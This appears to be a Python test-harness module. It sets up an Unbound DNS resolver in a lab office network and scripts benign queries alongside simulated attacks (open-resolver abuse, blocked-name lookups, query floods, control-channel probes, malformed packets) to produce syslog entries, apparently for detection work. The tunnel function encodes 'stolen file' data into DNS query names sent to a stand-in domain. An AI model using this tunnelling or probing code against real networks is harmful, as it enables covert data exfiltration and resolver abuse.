"""Unbound as the office's resolver, with a list of blocked names and a limit of queries for each address, logging to
syslog. `log-queries`, `log-replies`, `log-local-actions` and `log-servfail` are on: without them it writes nothing of
its clients."""

import base64
import ssl

from runner import dns, web
from runner.network import ATTACKERS, ATTACKERS6, OFFICE, ROAD
from runner.definition import Log, Service

SERVICE = Service(
    title="Unbound, DNS resolver",
    packages=["unbound", "bind9-dnsutils"],
    hostname="resolver",
    logs=[Log("syslog")],
)
RESOLVER, CONTROLLER, RAW = ATTACKERS[:3]
RESOLVER6 = ATTACKERS6[0]
# Machines of the office that malware has taken.
INFECTED, TUNNEL, FLOODER = OFFICE[5:8]
BLOCKED = ["malware.example.net", "botnet.example.net", "miner.example.net"]


@SERVICE.prepared
def prepare(machine):
    blocked = "".join(f'    local-zone: "{name}" always_nxdomain\n' for name in BLOCKED)
    machine.write("/etc/unbound/unbound.conf", f"""server:
    interface: 0.0.0.0
    interface: ::0
    access-control: 198.51.100.0/24 allow
    chroot: ""
    username: unbound
    do-not-query-localhost: no
    module-config: "iterator"
    log-queries: yes
    log-replies: yes
    log-local-actions: yes
    log-servfail: yes
    ip-ratelimit: 40
    local-zone: "example.org" static
    local-data: "www.example.org A 198.51.100.10"
    local-data: "files.example.org A 198.51.100.11"
{blocked}
remote-control:
    control-enable: yes
    control-interface: 0.0.0.0
forward-zone:
    name: "."
    forward-addr: 127.0.0.1@5300
""")
    # What the resolver forwards to: an Internet of one address, whose log nobody reads.
    machine.write("/etc/unbound/internet.conf", """server:
    interface: 127.0.0.1@5300
    port: 5300
    chroot: ""
    username: unbound
    pidfile: "/tmp/internet.pid"
    use-syslog: no
    module-config: "iterator"
    local-zone: "." redirect
    local-data: ". 60 A 192.0.2.80"
    local-data: ". 60 TXT answer"
    local-zone: "down.example" refuse
""")
    machine.run("unbound-control-setup")


@SERVICE.started
def start(machine):
    machine.daemon("unbound", "-d", "-c", "/etc/unbound/internet.conf", port=5300, output="internet")
    machine.daemon("unbound", "-d", port=8953)


@SERVICE.benign
def benign(session):
    """The office resolves names; one is blocked, one mistyped, one cannot be resolved; a laptop asks from the road; a
    monitor asks; reload and restart."""
    for address in OFFICE[:3]:
        for name in ("www.example.org", "files.example.org", "news.example", "shop.example", "mail.example", "cdn.shop.example"):
            assert "NOERROR" in dns.dig(session, address, name, "A")
        assert "NOERROR" in dns.dig(session, address, "news.example", "AAAA")
    assert "NXDOMAIN" in dns.dig(session, OFFICE[1], "ww.example.org", "A")
    assert "NXDOMAIN" in dns.dig(session, OFFICE[2], f"ads.{BLOCKED[2]}", "A")
    assert "SERVFAIL" in dns.dig(session, OFFICE[0], "www.down.example", "A")
    assert "REFUSED" in dns.dig(session, ROAD[2], "news.example", "A")
    for _ in range(3):
        dns.dig(session, OFFICE[9], "www.example.org", "A")
        session.drop(OFFICE[9], 53, 1, read_banner=False)
    for command in ("status", "stats_noreset", "reload"):
        session.machine.run("unbound-control", command)
    session.machine.restart()
    for number in range(4):
        assert "NOERROR" in dns.dig(session, OFFICE[number % 3], f"site{number}.example", "A")


@SERVICE.attack(RESOLVER)
def open_resolver(session):
    """One address elsewhere tries to use the server as an open resolver."""
    for number in range(14):
        words = ("isc.example", "ANY") if number % 2 else (f"victim{number}.example", "TXT")
        assert "REFUSED" in dns.dig(session, RESOLVER, *words)
        session.acted(RESOLVER, "recursion denied")


@SERVICE.attack(RESOLVER6)
def open_resolver_over_ipv6(session):
    """One address of version 6 tries to use the server as an open resolver."""
    for number in range(12):
        assert "REFUSED" in dns.dig(session, RESOLVER6, f"victim{number}.example", "A")
        session.acted(RESOLVER6, "recursion denied")


@SERVICE.attack(INFECTED)
def blocked_names(session):
    """A machine of the office asks for names that are blocked, again and again."""
    for number in range(15):
        assert "NXDOMAIN" in dns.dig(session, INFECTED, f"c{number}.{BLOCKED[number % 2]}", "A")
        session.acted(INFECTED, "name blocked")


@SERVICE.attack(TUNNEL)
def tunnel(session):
    """A machine of the office sends data out in the names that it asks for."""
    for number in range(30):
        data = base64.b32encode(f"{number:03} contents of a stolen file, part by part".encode()).decode().rstrip("=").lower()
        assert "NOERROR" in dns.dig(session, TUNNEL, f"{data[:50]}.{data[50:]}.t.tunnel.example", "TXT")
        session.acted(TUNNEL, "data in a name")


@SERVICE.attack(FLOODER)
def flood(session):
    """A machine of the office asks more often than the limit allows."""
    answers = [dns.packet(session, FLOODER, dns.question(f"r{number}.example", number), 0.01) for number in range(120)]
    session.acted(FLOODER, "rate limited", sum(not answer for answer in answers))


@SERVICE.attack(CONTROLLER)
def control_channel(session):
    """One address tries the control channel, without a certificate and without TLS."""
    for number in range(12):
        if number % 2:
            web.raw(session, CONTROLLER, 8953, b"UBCT1 status\n")
        else:
            context = ssl._create_unverified_context()
            try:
                with context.wrap_socket(session.connect(CONTROLLER, 8953)) as connection:
                    connection.sendall(b"UBCT1 status\n")
                    assert not connection.recv(1024)
            except (ssl.SSLError, ConnectionError):
                pass
        session.acted(CONTROLLER, "command channel denied")


dns.malformed(SERVICE, RAW)
